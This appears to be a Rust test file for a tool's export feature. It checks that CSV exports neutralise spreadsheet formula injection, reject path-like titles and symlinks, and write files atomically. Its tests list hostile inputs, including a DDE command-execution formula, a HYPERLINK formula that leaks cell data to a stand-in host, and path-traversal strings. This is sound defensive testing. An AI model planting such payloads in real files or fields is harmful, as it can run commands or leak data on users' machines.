//! Exports: what others open on their machines.

use groundswell::api::{Changed, Exported, NamedRequest, RankingPage};
use groundswell::error::ErrorKind;
use groundswell_tests::sample::Desk;
use serde_json::{Value, json};

use super::kit::{import, take};

const WISH: &str = "It would be great if you could add a dark mode to the board, please.";

/// A workspace with one request of that title.
fn titled(title: &str) -> Desk {
    let record = json!({ "ticket": { "id": 1, "subject": "a", "description": WISH } });
    let taken = take("o.jsonl", format!("{record}\n"));
    let row = taken.desk.ask::<RankingPage>("rank", json!({})).rows.remove(0);
    let _: Changed<NamedRequest> = taken.desk.ask("rename", json!({ "id": row.id, "title": title }));
    taken.desk
}

fn exported(desk: &Desk, format: &str) -> String {
    let out = desk.dir.path().join(format!("out.{format}"));
    let _ = std::fs::remove_file(&out);
    let _: Exported = desk.ask("export", json!({ "format": format, "out": out }));
    std::fs::read_to_string(&out).unwrap()
}

#[test]
fn o01_no_cell_becomes_a_formula() {
    for hostile in [
        "=HYPERLINK(\"http://x/\"&A1)",
        "=cmd|'/c calc'!A1",
        "+1",
        "-1+2",
        "@SUM(A1)",
        "＝1+1",
        "\u{200B}=1",
        "\u{feff}@x",
    ] {
        let desk = titled(hostile);
        let text = exported(&desk, "csv");
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!(&record[2], format!("'{hostile}"), "and nothing but the prefix is added");
        assert!(text.contains("\"'"), "and it is quoted");
        let text = exported(&desk, "md");
        let begins = |line: &str| line.starts_with(hostile);
        assert!(!text.lines().any(begins), "{text}");
    }
}

#[test]
fn o02_a_title_is_no_path() {
    for title in ["../../etc/x", "CON", "nul.txt", "a.", "..", "C:\\x", &"🎉".repeat(200)] {
        let desk = titled(title);
        let before = std::fs::read_dir(desk.dir.path()).unwrap().count();
        exported(&desk, "csv");
        assert_eq!(std::fs::read_dir(desk.dir.path()).unwrap().count(), before + 1, "only the file that was named");
    }
}

/// Titles and quotes are short, and a CSV has no longest cell: what is set aside goes out whole.
#[test]
fn o03_a_text_longer_than_a_spreadsheets_cell_is_written_whole() {
    let long = "long ".repeat(8000);
    let taken = take("o03.csv", super::kit::table(&format!("1,a,{long},x,y,z\n2,a,b,c\n")));
    assert_eq!(taken.piles(), [1, 0, 0, 1]);
    let aside = taken.desk.dir.path().join("aside.csv");
    let _: Exported = taken.desk.ask("set_aside", json!({ "out": aside }));
    assert!(std::fs::read_to_string(&aside).unwrap().contains(&long));
    let page: RankingPage = titled(&"t".repeat(200)).ask("rank", json!({}));
    assert_eq!(page.rows[0].title.len(), 200, "the longest title there can be");
}

#[test]
fn o06_what_is_there_stays_until_the_new_file_is_whole() {
    let desk = titled("A");
    let refused = |out: &std::path::Path| desk.refused("export", json!({ "format": "csv", "out": out }));
    let folder = desk.dir.path().join("folder");
    std::fs::create_dir(&folder).unwrap();
    let error = refused(&folder);
    assert_eq!((error.kind, error.message.as_str()), (ErrorKind::Input, "that is a folder, not a file"));
    let kept = desk.dir.path().join("kept.csv");
    std::fs::write(&kept, "precious").unwrap();
    #[cfg(unix)]
    {
        let link = desk.dir.path().join("link.csv");
        std::os::unix::fs::symlink(&kept, &link).unwrap();
        let error = refused(&link);
        assert_eq!((error.kind, error.message.as_str()), (ErrorKind::Input, "that is a link or a device, not a file"));
        assert_eq!(std::fs::read_to_string(&kept).unwrap(), "precious");
    }
    let nowhere = desk.dir.path().join("no/such/folder/out.csv");
    assert_eq!(refused(&nowhere).kind, ErrorKind::Io);
    let _: Exported = desk.ask("export", json!({ "format": "csv", "out": kept }));
    assert!(std::fs::read_to_string(&kept).unwrap().starts_with("\u{feff}\"Rank\""), "whole, under its name");
    let left = std::fs::read_dir(desk.dir.path())
        .unwrap()
        .filter(|e| e.as_ref().unwrap().file_name().to_string_lossy().contains(".tmp"));
    assert_eq!(left.count(), 0);
}

#[test]
fn o07_spreadsheets_see_utf8_and_text_as_text() {
    let text = exported(&titled("Größe"), "csv");
    assert!(text.starts_with("\u{feff}"), "the mark by which spreadsheets know UTF-8");
    assert!(text.contains("\"Größe\""));
    assert!(text.contains(",15.00,"), "numbers are numbers with a point, as every program reads them");
}

#[test]
fn o08_our_own_files_come_back_as_they_went_out() {
    let desk = titled("=1+1 is 'two'");
    let out = desk.dir.path().join("ranking.csv");
    let _: Exported = desk.ask("export", json!({ "format": "csv", "out": out }));
    let other = Desk::empty();
    let said = json!({ "as": "roadmap", "map": [{ "field": "title", "column": "Title" }, { "field": "id", "column": "Request" }] });
    let files = import(&other, &out, &said);
    assert_eq!(files[0].piles.added, 1);
    let at = files[0].columns.iter().position(|c| c == "Title").unwrap();
    assert_eq!(files[0].preview[0][at], "'=1+1 is 'two'", "the file shows one prefix");
    let item = |desk: &Desk| -> Value { serde_json::to_value(desk.ask::<RankingPage>("rank", json!({}))).unwrap() };
    assert!(item(&other)["rows"].as_array().unwrap().is_empty());
    // what is set aside goes out and comes back too
    let taken = take("o08.csv", super::kit::table("1,=1+1,'=quoted,a@moss.example\n2,=2,words,b,c\n"));
    assert_eq!(taken.words(1), "1 | =1+1 | =quoted");
    let aside = taken.desk.dir.path().join("aside.csv");
    let _: Exported = taken.desk.ask("set_aside", json!({ "out": aside }));
    let text = std::fs::read_to_string(&aside).unwrap();
    assert!(text.contains(",'=2,") && !text.contains("''"), "{text}");
    let mended = text.replace("\"b,c\"", "b@moss.example");
    std::fs::write(&aside, mended).unwrap();
    let files = import(&taken.desk, &aside, &json!({}));
    assert_eq!(files[0].piles.added, 1, "{:?}", files[0].problems);
    assert_eq!(taken.words(2), "2 | =2 | words", "and the prefix is off again");
}
